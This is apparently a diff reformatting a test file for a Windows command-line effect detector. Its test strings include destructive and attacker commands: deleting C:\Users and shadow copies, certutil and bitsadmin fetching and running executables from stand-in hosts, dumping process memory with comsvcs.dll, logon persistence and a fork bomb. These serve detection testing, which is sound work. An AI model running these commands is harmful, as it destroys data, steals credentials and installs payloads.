@@ -4,8 +4,13 @@ import { splitWords } from './cmd/split-words.ts'
 import { readCmd } from './read-windows.ts'
 import { readWindowsArguments } from './windows-arguments.ts'
 
-const read = (text: string) => readCmd(text, createFollow(() => ''))
-const effectsOf = (text: string) => read(text).effects.map(({ act, target }) => `${act} ${target.class} ${target.name}`)
+const read = (text: string) =>
+  readCmd(
+    text,
+    createFollow(() => ''),
+  )
+const effectsOf = (text: string) =>
+  read(text).effects.map(({ act, target }) => `${act} ${target.class} ${target.name}`)
 
 test.each([
   'rd /s /q C:\\Users',
@@ -33,12 +38,14 @@ test.each([
   expect(effectsOf(text).some((effect) => /^delete path\/root C:\\+Users/.test(effect))).toBe(true)
 })
 
-test.each(['echo rd /s /q C:\\Users', 'rem rd /s /q C:\\Users', ':: rd /s /q C:\\Users', 'echo "a & rd /s /q C:\\Users"'])(
-  'what is only mentioned does not happen: %s',
-  (text) => {
-    expect(effectsOf(text).filter((effect) => effect.startsWith('delete'))).toEqual([])
-  },
-)
+test.each([
+  'echo rd /s /q C:\\Users',
+  'rem rd /s /q C:\\Users',
+  ':: rd /s /q C:\\Users',
+  'echo "a & rd /s /q C:\\Users"',
+])('what is only mentioned does not happen: %s', (text) => {
+  expect(effectsOf(text).filter((effect) => effect.startsWith('delete'))).toEqual([])
+})
 
 test.each([
   ['vssadmin delete shadows /all /quiet', 'delete resource/backup'],
@@ -48,7 +55,10 @@ test.each([
   ['schtasks /create /tn a /tr "cmd /c a.exe" /sc onlogon', 'write path/startup'],
   ['certutil -urlcache -f http://get.example/a.exe a.exe', 'fetch host/outside'],
   ['bitsadmin /transfer j http://203.0.113.9/a.exe C:\\a.exe & C:\\a.exe', 'execute code/network'],
-  ['copy C:\\Windows\\System32\\certutil.exe c.exe & c.exe -urlcache -f http://get.example/a a', 'fetch host/outside'],
+  [
+    'copy C:\\Windows\\System32\\certutil.exe c.exe & c.exe -urlcache -f http://get.example/a a',
+    'fetch host/outside',
+  ],
   ['rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 a.dmp full', 'read path/memory'],
   ['wmic process call create "cmd /c vssadmin delete shadows /all"', 'delete resource/backup'],
   ['%0|%0', 'execute code/bomb'],
@@ -57,7 +67,11 @@ test.each([
 })
 
 test('a protection that is switched on again is no finding', () => {
-  expect(effectsOf('reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 0 /f')).toEqual([])
+  expect(
+    effectsOf(
+      'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 0 /f',
+    ),
+  ).toEqual([])
 })
 
 test('words are taken apart as Windows programs do', () => {
@@ -70,11 +84,26 @@ test('options are found in every spelling', () => {
   expect([args.value('/name'), args.value('/tn'), args.operands]).toEqual(['x', 'job', ['C:\\a']])
 })
 
-test.each(['^', '"', '%a%', '%a', '(', ')', '&', '|', '> a ', '2>a ', '<#', 'cmd /c ', 'call ', 'set a=b&', 'for %a in (b) do ', 'if exist a ', '!a!'])(
-  '100 kB of one thing ends with a bounded number of commands: %j',
-  (shape) => {
-    const walk = read(shape.repeat(100_000 / shape.length))
-    expect(walk.calls.length).toBeLessThanOrEqual(500)
-    expect(walk.effects.length).toBeLessThan(2_000)
-  },
-)
+test.each([
+  '^',
+  '"',
+  '%a%',
+  '%a',
+  '(',
+  ')',
+  '&',
+  '|',
+  '> a ',
+  '2>a ',
+  '<#',
+  'cmd /c ',
+  'call ',
+  'set a=b&',
+  'for %a in (b) do ',
+  'if exist a ',
+  '!a!',
+])('100 kB of one thing ends with a bounded number of commands: %j', (shape) => {
+  const walk = read(shape.repeat(100_000 / shape.length))
+  expect(walk.calls.length).toBeLessThanOrEqual(500)
+  expect(walk.effects.length).toBeLessThan(2_000)
+})
